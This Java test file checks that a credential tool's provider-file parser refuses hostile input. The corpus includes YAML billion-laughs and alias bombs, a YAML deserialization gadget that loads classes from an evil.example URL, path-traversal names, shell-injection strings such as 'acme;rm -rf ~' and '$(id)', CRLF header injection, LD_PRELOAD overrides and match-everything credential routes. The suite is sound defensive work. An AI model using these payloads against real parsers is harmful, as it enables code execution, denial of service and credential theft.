package dev.authsome.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.authsome.core.ProviderDefinitions.Format;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * The hostile-input corpus for provider files (what a user drops into {@code $AUTHSOME_HOME/providers/} from a
 * gist, or a plugin ships): YAML and JSON bombs, huge values, wrong types, names that walk out of the folder, and
 * routes that would send a credential to every host. Each named case must be refused with {@code INVALID_PROVIDER}
 * and a one-line message that names the file, without echoing a huge value; the reader then still reads a good file.
 */
class ProviderFilesHostileTest {
  private static final String GOOD = """
      name: acme
      display_name: Acme
      auth_type: api_key
      flow: api_key
      api_key: {header_name: Authorization, header_prefix: Bearer}
      api_url: api.acme.example
      """;

  record Case(String name, String text, Format format, String says) {
  }

  static List<Case> corpus() {
    List<Case> c = new ArrayList<>();
    // ---- bombs and resource exhaustion
    StringBuilder laughs = new StringBuilder("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (int i = 1; i < 10; i++) {
      laughs.append("a").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 9; j++) {
        laughs.append(j == 0 ? "" : ",").append("*a").append(i - 1);
      }
      laughs.append("]\n");
    }
    c.add(yaml("billion laughs", laughs + GOOD, null));
    c.add(yaml("billion laughs inside a field", GOOD + "metadata: {x: *a9}\n" + laughs.toString().replace("a", "b"),
        null));
    c.add(yaml("aliases fanned out in one list", "x: &x [1,2,3]\ny: [" + "*x,".repeat(200) + "*x]\n" + GOOD, null));
    c.add(yaml("recursive alias", "r: &r [*r]\n" + GOOD, null));
    c.add(yaml("recursive key", "&k {*k: 1}: v\n" + GOOD, null));
    c.add(yaml("nesting 10000 deep (flow)", "x: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n" + GOOD, null));
    c.add(yaml("nesting 200 deep (block)", nestedBlock(200) + GOOD, null));
    c.add(json("JSON nesting 10000 deep", "{\"x\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}", null));
    c.add(yaml("document of 2 MiB", GOOD + "description: " + "d".repeat(2 << 20) + "\n", "larger than"));
    c.add(json("JSON document of 2 MiB", "{\"name\":\"acme\",\"description\":\"" + "d".repeat(2 << 20) + "\"}",
        "larger than"));
    c.add(yaml("a name of 100000 characters", GOOD.replace("name: acme", "name: " + "n".repeat(100_000)), null));
    c.add(yaml("10000 routes", GOOD.replace("api_url: api.acme.example", "api_url: ["
        + "x.example,".repeat(10_000) + "y.example]") + "flow: nope\n", null));
    c.add(yaml("duplicate keys", GOOD + "name: evil\n", "name"));
    c.add(yaml("duplicate nested keys", GOOD.replace("header_prefix: Bearer", "header_prefix: Bearer, header_name: X"),
        null));
    c.add(yaml("a multi-document stream", GOOD + "---\nname: second\n", null));
    c.add(yaml("a java type tag", "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
        + "[[!!java.net.URL [\"http://evil.example/\"]]]]\n" + GOOD, null));
    c.add(yaml("a custom tag", "x: !evil {a: 1}\n" + GOOD, null));
    c.add(yaml("a binary tag with junk", "x: !!binary '@@@@'\n" + GOOD, null));
    c.add(yaml("a merge key bomb", "base: &b {a: 1}\nm: {<<: [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,*b,"
        + "*b,*b,*b,*b]}\n" + GOOD, null));
    // ---- not a provider at all
    String[][] notMappings = {{"empty file", ""}, {"only a comment", "# nothing\n"}, {"a scalar", "hello\n"},
        {"a list", "- name: acme\n"}, {"null", "~\n"}, {"a number", "42\n"}, {"a tab-indented document",
        "name: acme\n\tflow: api_key\n"}, {"unterminated quote", "name: 'acme\n"}, {"unterminated flow",
        "api_key: {header_name: X\n"}, {"NUL bytes", "name: ac\0me\n"}, {"UTF-16 bytes", "\ufeffn\0a\0m\0e\0"},
        {"a stray document end", "...\n...\n"}, {"binary noise", "\u0001\u0002\u0003\u00ff\u00fe"}};
    for (String[] n : notMappings) {
      c.add(yaml(n[0], n[1], null));
    }
    c.add(json("JSON array", "[1,2,3]", null));
    c.add(json("JSON with a trailing comma", "{\"name\":\"acme\",}", null));
    c.add(json("JSON with NaN", "{\"name\":NaN}", null));
    c.add(json("JSON with a duplicate key", "{\"name\":\"acme\",\"name\":\"evil\"}", null));
    c.add(json("JSON cut short", "{\"name\":\"ac", null));
    c.add(json("JSON of 100000 numbers", "{\"x\":[" + "1,".repeat(100_000) + "1]}", null));
    // ---- names that walk out of the providers folder or shadow something
    String[] names = {"../evil", "../../etc/passwd", "/etc/passwd", "..", ".", ".hidden", "a/b", "a\\b", "C:evil",
        "acme\u0000", "acme\nflow", "acme ", " acme", "", "acme;rm -rf ~", "$(id)", "`id`", "acme%2f..", "-rf",
        "--help", "ac\u202eme", "аcme", "acme..", "..acme", "NUL", "a".repeat(300)};
    for (String n : names) {
      c.add(yaml("name '" + printable(n) + "'", GOOD.replace("name: acme", "name: " + quote(n)), null));
    }
    // ---- wrong types in every field
    String[][] fields = {{"name", "[a, b]"}, {"name", "{a: 1}"}, {"name", "42"}, {"name", "true"}, {"name", "~"},
        {"auth_type", "[api_key]"}, {"auth_type", "telepathy"}, {"auth_type", "7"}, {"flow", "{a: b}"},
        {"flow", "not_a_flow"}, {"flow", "../../flows/evil"}, {"api_url", "{a: b}"}, {"api_url", "[[nested]]"},
        {"api_url", "42"}, {"api_key", "[1]"}, {"api_key", "just a string"}, {"api_key", "{header_name: [x]}"},
        {"api_key", "{header_name: 'Bad Header'}"}, {"api_key", "{header_name: \"X\\r\\nInjected: yes\"}"},
        {"api_key", "{header_name: Authorization, header_prefix: \"Bearer\\r\\nX: y\"}"},
        {"api_key", "{header_name: Authorization, key_pattern: '(a+)+$['}"}, {"schema_version", "999"},
        {"schema_version", "\"one\""}, {"schema_version", "-1"}, {"schema_version", "1.5"},
        {"docs_url", "javascript:alert(1)"}, {"docs_url", "[x]"}, {"docs_url", "\"file:///etc/passwd\""},
        {"export", "[A, B]"}, {"export", "{\"lower-case\": api_key}"}, {"export", "{PATH: api_key}"},
        {"export", "{LD_PRELOAD: api_key}"}, {"export", "{ACME_KEY: not_a_field}"}, {"export", "{\"A=B\": api_key}"},
        {"metadata", "[1, 2]"}, {"display_name", "{a: 1}"}, {"oauth", "[1]"}, {"oauth", "just text"}};
    for (String[] f : fields) {
      String text = GOOD.contains(f[0] + ":") ? GOOD.replaceFirst("(?m)^" + f[0] + ":.*$", f[0] + ": "
          + java.util.regex.Matcher.quoteReplacement(f[1])) : GOOD + f[0] + ": " + f[1] + "\n";
      c.add(yaml("field " + f[0] + " = " + printable(f[1]), text, null));
    }
    // ---- OAuth endpoints an attacker would like
    String oauthBase = """
        name: acme
        display_name: Acme
        auth_type: oauth2
        flow: pkce
        api_url: api.acme.example
        oauth:
          authorization_url: %s
          token_url: %s
          scopes: [read]
        """;
    String[][] endpoints = {{"http token endpoint", "https://a.example/auth", "http://a.example/token"},
        {"http authorization endpoint", "http://a.example/auth", "https://a.example/token"},
        {"javascript endpoint", "javascript:alert(1)", "https://a.example/token"},
        {"file endpoint", "https://a.example/auth", "file:///etc/passwd"},
        {"endpoint without host", "https:///auth", "https://a.example/token"},
        {"endpoint with userinfo", "https://a.example/auth", "https://user:pw@a.example/token"},
        {"data endpoint", "data:text/html,hi", "https://a.example/token"},
        {"endpoint with spaces", "https://a.example/a b", "https://a.example/token"},
        {"endpoint that is a list", "[https://a.example/auth]", "https://a.example/token"},
        {"relative endpoint", "/auth", "/token"}};
    for (String[] e : endpoints) {
      c.add(yaml("oauth: " + e[0], oauthBase.formatted(e[1], e[2]), null));
    }
    // ---- routes that would send the credential everywhere, or to look-alike hosts
    String[] routes = {"'regex:.*'", "'regex:.+'", "'regex:(?i).*'", "'regex:(?x) . *'", "'regex:a|.*'",
        "'regex:.*#\\.acme\\.example$'", "'regex:\\Q.*\\E|.*'", "'regex:[^x]*'", "'regex:.*acme.*'",
        "'regex:^.*$'", "'regex:(a+)+b'", "'regex:['", "'regex:'", "'*'", "'*.example'", "'.'", "'https://'",
        "'http://api.acme.example'", "'regex:acme\\.example'", "'regex:\\w+\\.acme\\.example'",
        "'regex:(?s).*'", "'{base_url}.*'", "'api.acme.example:99999'", "'api.acme.example:-1'", "'::'"};
    for (String r : routes) {
      c.add(yaml("route " + r, GOOD.replace("api_url: api.acme.example", "api_url: [api.acme.example, " + r + "]"),
          null));
    }
    return c;
  }

  @TestFactory
  Stream<DynamicTest> everyHostileProviderFile_isRefusedWithAOneLineMessageNamingTheFile() {
    return corpus().stream().map(c -> DynamicTest.dynamicTest(c.name(), () -> {
      String origin = "providers/hostile-" + Math.abs(c.name().hashCode()) + "." + (c.format() == Format.YAML
          ? "yaml" : "json");
      Throwable t = catchThrowable(() -> ProviderDefinitions.validate(ProviderDefinitions.parse(c.text(),
          c.format(), origin), origin, ProviderDefinitions.BUILTIN_FLOWS));
      if (t == null) {
        // accepted: then it must be harmless, a provider whose routes reach no look-alike host
        assertAcceptedIsHarmless(c);
        return;
      }
      assertThat(t).as(c.name()).isInstanceOf(AuthsomeException.class);
      AuthsomeException e = (AuthsomeException) t;
      assertThat(e.code()).as(c.name() + ": " + e.getMessage()).isEqualTo(ErrorCode.INVALID_PROVIDER);
      assertThat(e.getMessage()).as(c.name()).contains(origin).doesNotContain("\n").doesNotContain("\r");
      assertThat(e.getMessage().length()).as(c.name() + ": the message does not echo a huge value").isLessThan(600);
      if (c.says() != null) {
        assertThat(e.getMessage()).contains(c.says());
      }
      // the reader keeps working
      assertThat(ProviderDefinitions.parse(GOOD, Format.YAML, "good.yaml").name()).isEqualTo("acme");
    }));
  }

  /** Anything the reader accepts routes no credential to a host other than the provider's own. */
  private static void assertAcceptedIsHarmless(Case c) {
    ProviderDefinition d = ProviderDefinitions.parse(c.text(), c.format(), "x.yaml");
    assertThat(ProviderDefinitions.isValidName(d.name())).as(c.name()).isTrue();
    assertThat(d.name()).as(c.name()).doesNotContain("/", "\\", "..");
    RouteMatcher m = RouteMatcher.of(d);
    for (String lookAlike : List.of("evil.example", "api.acme.example.evil.example", "apiacme.example",
        "api-acme.example", "acme.example.evil", "127.0.0.1", "xn--pi-7ka.acme.example")) {
      assertThat(m.matches(URI.create("https://" + lookAlike + "/v1"))).as(c.name() + " must not route "
          + lookAlike).isFalse();
    }
  }

  private static Case yaml(String name, String text, String says) {
    return new Case(name, text, Format.YAML, says);
  }

  private static Case json(String name, String text, String says) {
    return new Case(name, text, Format.JSON, says);
  }

  private static String nestedBlock(int depth) {
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      s.append("  ".repeat(i)).append("k").append(i).append(":\n");
    }
    s.append("  ".repeat(depth)).append("v\n");
    return s.toString();
  }

  private static String quote(String s) {
    return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\0", "\\0") + "\"";
  }

  private static String printable(String s) {
    String t = s.replaceAll("[^\\x20-\\x7e]", "?");
    return t.length() > 40 ? t.substring(0, 40) + "..." : t;
  }
}
